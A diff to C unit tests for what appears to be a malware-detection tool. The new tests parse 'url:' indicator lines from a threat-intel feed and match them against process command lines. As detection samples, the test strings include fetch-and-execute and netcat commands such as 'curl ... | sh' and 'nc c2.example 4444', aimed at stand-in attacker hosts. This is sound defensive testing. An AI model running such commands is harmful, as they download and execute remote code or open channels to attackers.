@@ -164,6 +164,17 @@ static const struct bad_case bad[] = {
 	{ "invalid_utf8_at_the_end_of_a_long_label_is_refused",
 	  H1 " malicious abcdefghijklmnopqrstuvwxyz\xff\n", 0,
 	  "feed.txt:1: not UTF-8 text" },
+	{ "empty_url_is_refused", "url: dropper\n", 0, "feed.txt:1: empty URL in a url: line" },
+	{ "url_without_host_is_refused", "url:http:///x.sh\n", 0,
+	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
+	{ "url_with_bad_scheme_is_refused", "url:1http://evil.example/\n", 0,
+	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
+	{ "url_with_bad_port_is_refused", "url:http://evil.example:80x/\n", 0,
+	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
+	{ "url_with_bad_host_is_refused", "url:http://ev!l.example/\n", 0,
+	  "feed.txt:1: not a URL: scheme://host[:port][/path] or host[/path] expected" },
+	{ "url_label_of_64_bytes_is_refused", "url:evil.example " LABEL64 "\n", 0,
+	  "feed.txt:1: label longer than 63 bytes" },
 	{ "error_names_the_first_bad_line_of_many",
 	  H1 "\n" H2 "\n# fine so far\n\nnot-a-hash\n" H1 " nonsense\n", 0,
 	  "feed.txt:5: not a SHA-256: 10 characters where 64 hex digits were expected" },
@@ -441,9 +452,122 @@ static void every_distinct_label_travels_once_and_the_limit_holds(void **state)
 	free(s);
 }
 
+/* --- url: lines, the relay's -------------------------------------------------------------- */
+
+static void url_keys_are_normalized(void **state)
+{
+	static const struct { const char *url, *key; } c[] = {
+		{ "http://Evil.Example/x.sh", "evil.example/x.sh" },
+		{ "HTTPS://evil.example.:443/", "evil.example/" },
+		{ "http://evil.example:8080", "evil.example:8080/" },
+		{ "https://user:pw@evil.example/a?b=1#frag", "evil.example/a?b=1" },
+		{ "evil.example", "evil.example/" },
+		{ "evil.example?q", "evil.example/?q" },
+		{ "ftp://[2001:DB8::9]:21/p", "[2001:db8::9]/p" },
+		{ "stratum+tcp://pool.example:3333", "pool.example:3333/" },
+		{ "http://evil.example/A/B", "evil.example/A/B" },
+	};
+	static const char *const refused[] = { "", "http://", "://evil.example", "http://a b/",
+					       "http://[::1/", "evil.example:x/", "/tmp/x.sh" };
+	char key[WHORL_URL_MAX];
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
+		assert_int_equal(whorl_url_key(c[i].url, strlen(c[i].url), key),
+				 (long)strlen(c[i].key));
+		assert_string_equal(key, c[i].key);
+	}
+	for (i = 0; i < sizeof(refused) / sizeof(refused[0]); i++)
+		assert_int_equal(whorl_url_key(refused[i], strlen(refused[i]), key), -1);
+}
+
+static const char url_feed[] =
+	"# URLs\n"
+	"url:http://evil.example/x.sh dropper\n"
+	"url:c2.example\n"
+	"url:https://cdn.example/payloads/ staged payloads\n"
+	"url:http://evil.example/x.sh dropper v2\n"
+	H1 " malicious miner\n";
+
+static void url_lines_load_beside_hashes(void **state)
+{
+	struct whorl_intel set = { 0 };
+	char err[WHORL_INTEL_ERR_MAX] = "";
+
+	(void)state;
+	assert_int_equal(whorl_intel_parse(&set, "feed.txt", url_feed, strlen(url_feed), err), 0);
+	assert_int_equal(set.hashes, 1);
+	assert_int_equal(set.names, 0);
+	assert_int_equal(set.n, 1);		/* url: lines never travel to the module */
+	assert_int_equal(set.urls.n, 3);	/* the repeated line replaced the first */
+	assert_int_equal(set.nlabels, 1);	/* nor do their labels */
+	whorl_intel_free(&set);
+}
+
+static void urls_on_command_lines_match_as_documented(void **state)
+{
+	static const struct { const char *cmdline, *found, *label; } c[] = {
+		{ "curl -fsSL http://evil.example/x.sh", "http://evil.example/x.sh", "dropper v2" },
+		{ "sh -c curl -s 'HTTP://EVIL.example:80/x.sh?v=2' | sh", "HTTP://EVIL.example:80/x.sh?v=2",
+		  "dropper v2" },
+		{ "wget -qO- https://evil.example/x.sh/", "https://evil.example/x.sh/", "dropper v2" },
+		{ "nc c2.example 4444", "c2.example", NULL },
+		{ "curl --url=https://c2.example/beacon", "https://c2.example/beacon", NULL },
+		{ "curl http://good.example/?next=https://cdn.example/payloads/a.bin",
+		  "https://cdn.example/payloads/a.bin", "staged payloads" },
+		{ "sh -c \"$(curl http://c2.example)\"", "http://c2.example", NULL },
+	};
+	static const char *const silent[] = {
+		"curl http://evil.example/x.shell", "curl http://evil.example/", "ls /tmp/c2.example",
+		"curl https://cdn.example/payloads", "curl https://cdn.example/other/",
+		"curl http://sub.c2.example/", "echo evil.example/x.sh.txt", "",
+	};
+	struct whorl_intel set = { 0 };
+	char err[WHORL_INTEL_ERR_MAX] = "", found[WHORL_URL_MAX];
+	const struct whorl_url_entry *e;
+	size_t i;
+
+	(void)state;
+	assert_int_equal(whorl_intel_parse(&set, "feed.txt", url_feed, strlen(url_feed), err), 0);
+	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
+		e = whorl_urls_find(&set.urls, c[i].cmdline, found);
+		if (!e)
+			fail_msg("no match in '%s'", c[i].cmdline);
+		assert_string_equal(found, c[i].found);
+		if (c[i].label)
+			assert_string_equal(e->label, c[i].label);
+		else
+			assert_null(e->label);
+	}
+	for (i = 0; i < sizeof(silent) / sizeof(silent[0]); i++)
+		if (whorl_urls_find(&set.urls, silent[i], found))
+			fail_msg("'%s' matched as '%s'", silent[i], found);
+	whorl_intel_free(&set);
+}
+
+/* An attacker's command line cannot make the lookup slow: the URLs tried are bounded. */
+static void a_command_line_full_of_urls_is_bounded(void **state)
+{
+	struct whorl_intel set = { 0 };
+	char err[WHORL_INTEL_ERR_MAX] = "", found[WHORL_URL_MAX], line[4096] = "";
+	size_t i;
+
+	(void)state;
+	assert_int_equal(whorl_intel_parse(&set, "feed.txt", url_feed, strlen(url_feed), err), 0);
+	for (i = 0; strlen(line) + 40 < sizeof(line); i++)
+		strcat(line, "http://a.example/x ");
+	strcat(line, "http://evil.example/x.sh");
+	/* past WHORL_URLS_PER_CMDLINE URLs the rest is not looked at */
+	assert_true(i > WHORL_URLS_PER_CMDLINE);
+	assert_null(whorl_urls_find(&set.urls, line, found));
+	assert_non_null(whorl_urls_find(&set.urls, "curl http://evil.example/x.sh", found));
+	whorl_intel_free(&set);
+}
+
 int main(void)
 {
-	struct CMUnitTest tests[sizeof(good) / sizeof(good[0]) + sizeof(bad) / sizeof(bad[0]) + 5];
+	struct CMUnitTest tests[sizeof(good) / sizeof(good[0]) + sizeof(bad) / sizeof(bad[0]) + 9];
 	size_t i, n = 0;
 
 	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
@@ -460,5 +584,9 @@ int main(void)
 		intel_batches_stay_under_32k_and_carry_every_entry);
 	tests[n++] = (struct CMUnitTest)cmocka_unit_test(
 		every_distinct_label_travels_once_and_the_limit_holds);
+	tests[n++] = (struct CMUnitTest)cmocka_unit_test(url_keys_are_normalized);
+	tests[n++] = (struct CMUnitTest)cmocka_unit_test(url_lines_load_beside_hashes);
+	tests[n++] = (struct CMUnitTest)cmocka_unit_test(urls_on_command_lines_match_as_documented);
+	tests[n++] = (struct CMUnitTest)cmocka_unit_test(a_command_line_full_of_urls_is_bounded);
 	return _cmocka_run_group_tests("intel", tests, n, NULL, NULL);
 }
